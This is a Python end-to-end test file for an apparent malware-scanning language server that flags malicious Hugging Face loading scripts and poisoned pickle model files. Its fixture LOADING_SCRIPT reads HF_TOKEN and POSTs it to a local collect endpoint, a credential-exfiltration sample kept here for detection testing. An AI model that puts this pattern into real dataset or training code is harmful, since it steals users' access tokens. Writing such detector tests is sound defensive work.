"""End to end without hub references: loading scripts analyzed live, model files in the workspace, progress."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from lsprotocol import types

from malhug.core import filetypes
from tests.server.conftest import HubRepos, evil_pickle, safetensors_bytes
from tests.server.harness import (
    change_doc,
    codes,
    literal_range,
    logged,
    open_doc,
    server_env,
    start_client,
    stop_client,
    wait_for,
)

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(90)]

LOADING_SCRIPT = """import os
import requests
import datasets


class Evil(datasets.GeneratorBasedBuilder):
    def _info(self):
        token = os.environ.get("HF_TOKEN")
        payload = {"t": token}
        requests.post("http://127.0.0.1:9/collect", json=payload)
        return datasets.DatasetInfo()
"""


async def test_loading_script_is_analyzed_live_with_its_data_flow(tmp_path: Path) -> None:
    client = await start_client(tmp_path, env=server_env(tmp_path, HF_HUB_OFFLINE="1"))
    try:
        uri = open_doc(client, tmp_path / "ws" / "evil_dataset.py", LOADING_SCRIPT)
        diags = await wait_for(
            lambda: [d for d in client.diagnostics.get(uri, []) if d.code == "MH503"], what="MH503 on the script"
        )
        diag = diags[0]
        assert diag.severity == types.DiagnosticSeverity.Error
        assert "HF_TOKEN" in diag.message and "127.0.0.1" in diag.message
        assert diag.range == literal_range(LOADING_SCRIPT, 'requests.post("http://127.0.0.1:9/collect", json=payload)')
        related = diag.related_information or []
        assert [r.message for r in related][:2] == ["reads the environment variable HF_TOKEN", "assigned to token"]
        assert related[0].location.uri == uri
        assert related[0].location.range == literal_range(LOADING_SCRIPT, 'os.environ.get("HF_TOKEN")')

        # The user removes the exfiltration: the finding goes away for the new version.
        fixed = LOADING_SCRIPT.replace('        requests.post("http://127.0.0.1:9/collect", json=payload)\n', "")
        change_doc(client, uri, fixed, 2)
        await wait_for(lambda: any(p.version == 2 for p in client.for_uri(uri)), what="publish for version 2")
        last = client.for_uri(uri)[-1]
        assert last.version == 2 and "MH503" not in codes(last.diagnostics)
    finally:
        await stop_client(client)


TRAINING_SCRIPT = """import os
import subprocess
import torch

print(subprocess.run(["nvidia-smi"], capture_output=True).stdout)
os.system("mkdir -p outputs")
state = torch.load("outputs/last.pt")
"""


async def test_users_own_training_code_gets_load_diagnostics_not_script_alarms(tmp_path: Path) -> None:
    """nvidia-smi in a training script is no attack; the unsafe torch.load in it is worth a warning."""
    client = await start_client(tmp_path, env=server_env(tmp_path, HF_HUB_OFFLINE="1"))
    try:
        uri = open_doc(client, tmp_path / "ws" / "train.py", TRAINING_SCRIPT)
        diags = await wait_for(lambda: client.diagnostics.get(uri) or None, what="diagnostics on train.py")
        # Past the script analysis' start delay: a loading script would have its findings by now.
        await asyncio.sleep(1.5)
        diags = client.diagnostics.get(uri, [])
        assert "MH701" in codes(diags), codes(diags)
        assert not [d for d in diags if str(d.code).startswith("MH5")], codes(diags)
    finally:
        await stop_client(client)


async def test_workspace_model_files_pull_and_watch(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "models").mkdir()
    (ws / "models" / "evil.bin").write_bytes(evil_pickle())
    (ws / "models" / "weights.safetensors").write_bytes(safetensors_bytes())
    (ws / "notes.txt").write_text("not a model")
    caps = "visual-studio-code"
    client = await start_client(tmp_path, env=server_env(tmp_path, HF_HUB_OFFLINE="1"), workspace=ws, capabilities=caps)
    try:
        evil_uri = (ws / "models" / "evil.bin").as_uri()
        clean_uri = (ws / "models" / "weights.safetensors").as_uri()

        async def pulled() -> dict[str, list[types.Diagnostic]]:
            report = await client.workspace_diagnostic_async(
                types.WorkspaceDiagnosticParams(previous_result_ids=[], identifier="malhug")
            )
            return {item.uri: list(item.items) for item in report.items}

        items: dict[str, list[types.Diagnostic]] = {}

        async def refresh() -> bool:
            items.update(await pulled())
            return bool(items.get(evil_uri)) and clean_uri in items

        for _ in range(200):
            if await refresh():
                break
            await asyncio.sleep(0.05)
        evil = items[evil_uri]
        assert evil[0].severity == types.DiagnosticSeverity.Error
        assert evil[0].range.start == types.Position(line=0, character=0)
        assert "os.system" in evil[0].message and "malhug-sentinel-lsp" in evil[0].message
        assert str(evil[0].code).startswith("MH1")
        assert items[clean_uri] == []
        assert (ws / "notes.txt").as_uri() not in items

        # The server asked to watch model files; a new poisoned file appears and gets scanned.
        (watch,) = await wait_for(
            lambda: [r for r in client.registrations if r.method == types.WORKSPACE_DID_CHANGE_WATCHED_FILES],
            what="the watcher registration",
        )
        globs = [w["globPattern"] for w in watch.register_options["watchers"]]  # type: ignore[index]
        assert (
            globs == [filetypes.watch_glob(), filetypes.watch_glob((".index.json",))]
            and "[pP][kK][lL]" in globs[0]
            and "[dD][iI][lL][lL]" in globs[0]
        )
        late = ws / "late.pkl"
        late.write_bytes(evil_pickle())
        client.workspace_did_change_watched_files(
            types.DidChangeWatchedFilesParams(
                changes=[types.FileEvent(uri=late.as_uri(), type=types.FileChangeType.Created)]
            )
        )
        for _ in range(200):
            items.update(await pulled())
            if items.get(late.as_uri()):
                break
            await asyncio.sleep(0.05)
        assert items[late.as_uri()][0].severity == types.DiagnosticSeverity.Error

        # A client that already has the current results gets "unchanged" for them.
        full = await client.workspace_diagnostic_async(
            types.WorkspaceDiagnosticParams(previous_result_ids=[], identifier="malhug")
        )
        known = [types.PreviousResultId(uri=i.uri, value=i.result_id) for i in full.items if i.result_id]
        again = await client.workspace_diagnostic_async(
            types.WorkspaceDiagnosticParams(previous_result_ids=known, identifier="malhug")
        )
        assert {i.kind for i in again.items} == {"unchanged"} and len(again.items) == 3

        # The file is deleted: the next pull clears its diagnostics.
        late.unlink()
        client.workspace_did_change_watched_files(
            types.DidChangeWatchedFilesParams(
                changes=[types.FileEvent(uri=late.as_uri(), type=types.FileChangeType.Deleted)]
            )
        )
        for _ in range(200):
            cleared = await pulled()
            if cleared.get(late.as_uri()) == []:
                break
            await asyncio.sleep(0.05)
        assert cleared[late.as_uri()] == []
    finally:
        await stop_client(client)


async def test_model_files_pushed_to_a_client_without_pull(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "checkpoint.pt").write_bytes(evil_pickle())
    client = await start_client(
        tmp_path, env=server_env(tmp_path, HF_HUB_OFFLINE="1"), workspace=ws, capabilities="neovim@v0.7.0"
    )
    try:
        uri = (ws / "checkpoint.pt").as_uri()
        diags = await wait_for(lambda: client.diagnostics.get(uri), what="pushed diagnostics for checkpoint.pt")
        assert diags[0].severity == types.DiagnosticSeverity.Error and diags[0].source == "malhug"
    finally:
        await stop_client(client)


async def test_long_scans_report_progress(tmp_path: Path, hub: HubRepos) -> None:
    client = await start_client(tmp_path, env=server_env(tmp_path, HF_ENDPOINT=hub.hub.endpoint))
    try:
        uri = open_doc(
            client,
            tmp_path / "ws" / "p.py",
            'from transformers import AutoModel\nAutoModel.from_pretrained("org/evil")\n',
        )
        await wait_for(lambda: [d for d in client.diagnostics.get(uri, []) if d.code == "MH710"], what="MH710")

        def scan_progress() -> list[list[object]]:
            return [
                v
                for v in client.progress_reports.values()
                if v and isinstance(v[0], types.WorkDoneProgressBegin) and "org/evil" in v[0].title
            ]

        (reports,) = await wait_for(scan_progress, what="progress for the scan")
        await wait_for(lambda: isinstance(reports[-1], types.WorkDoneProgressEnd), what="progress end")
        assert isinstance(reports[0], types.WorkDoneProgressBegin)
    finally:
        await stop_client(client)


async def test_the_user_can_cancel_a_scan_from_its_progress(tmp_path: Path, hub: HubRepos) -> None:
    hub.hub.slow_down(2.0, match="org/evil")
    client = await start_client(tmp_path, env=server_env(tmp_path, HF_ENDPOINT=hub.hub.endpoint))
    try:
        text = 'from transformers import AutoModel\nAutoModel.from_pretrained("org/evil")\n'
        uri = open_doc(client, tmp_path / "ws" / "c.py", text)

        def begun() -> list[object]:
            return [
                token
                for token, values in client.progress_reports.items()
                if values and isinstance(values[0], types.WorkDoneProgressBegin) and "org/evil" in values[0].title
            ]

        (token,) = await wait_for(begun, what="the scan's progress")
        assert client.progress_reports[token][0].cancellable is True  # type: ignore[union-attr]
        client.window_work_done_progress_cancel(types.WorkDoneProgressCancelParams(token=token))  # type: ignore[arg-type]
        diags = await wait_for(
            lambda: [d for d in client.diagnostics.get(uri, []) if d.code == "MH712"], what="MH712 after the cancel"
        )
        assert "cancelled" in diags[0].message
        hub.hub.slow_down(0)
        client.text_document_did_save(
            types.DidSaveTextDocumentParams(text_document=types.TextDocumentIdentifier(uri=uri))
        )
        await wait_for(lambda: [d for d in client.diagnostics.get(uri, []) if d.code == "MH710"], what="MH710")
    finally:
        await stop_client(client)


async def test_an_id_that_names_a_local_folder_is_not_a_hub_reference(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    (ws / "checkpoints" / "run1").mkdir(parents=True)
    client = await start_client(tmp_path, env=server_env(tmp_path, HF_HUB_OFFLINE="1"), workspace=ws)
    try:
        text = (
            "from transformers import AutoModel\n"
            'a = AutoModel.from_pretrained("checkpoints/run1")\n'
            'b = AutoModel.from_pretrained("org/elsewhere")\n'
        )
        uri = open_doc(client, ws / "app.py", text)
        await wait_for(lambda: logged(client, "model org/elsewhere: error"), what="the hub id's (offline) scan")
        diags = await wait_for(lambda: client.diagnostics.get(uri), what="MH712 for the hub id")
        assert [(d.code, d.range.start.line) for d in diags] == [("MH712", 2)]  # offline, not cached
        assert not logged(client, "checkpoints/run1")  # never scanned
    finally:
        await stop_client(client)


async def test_added_and_removed_workspace_folders(tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    (other / "evil.pkl").write_bytes(evil_pickle())
    client = await start_client(tmp_path, env=server_env(tmp_path, HF_HUB_OFFLINE="1"), capabilities="neovim@v0.7.0")
    try:
        uri = (other / "evil.pkl").as_uri()
        folder = types.WorkspaceFolder(uri=other.as_uri(), name="other")
        client.workspace_did_change_workspace_folders(
            types.DidChangeWorkspaceFoldersParams(event=types.WorkspaceFoldersChangeEvent(added=[folder], removed=[]))
        )
        diags = await wait_for(lambda: client.diagnostics.get(uri), what="the added folder's model file")
        assert diags[0].severity == types.DiagnosticSeverity.Error
        client.workspace_did_change_workspace_folders(
            types.DidChangeWorkspaceFoldersParams(event=types.WorkspaceFoldersChangeEvent(added=[], removed=[folder]))
        )
        await wait_for(lambda: list(client.diagnostics[uri]) == [], what="diagnostics cleared with the folder")
    finally:
        await stop_client(client)
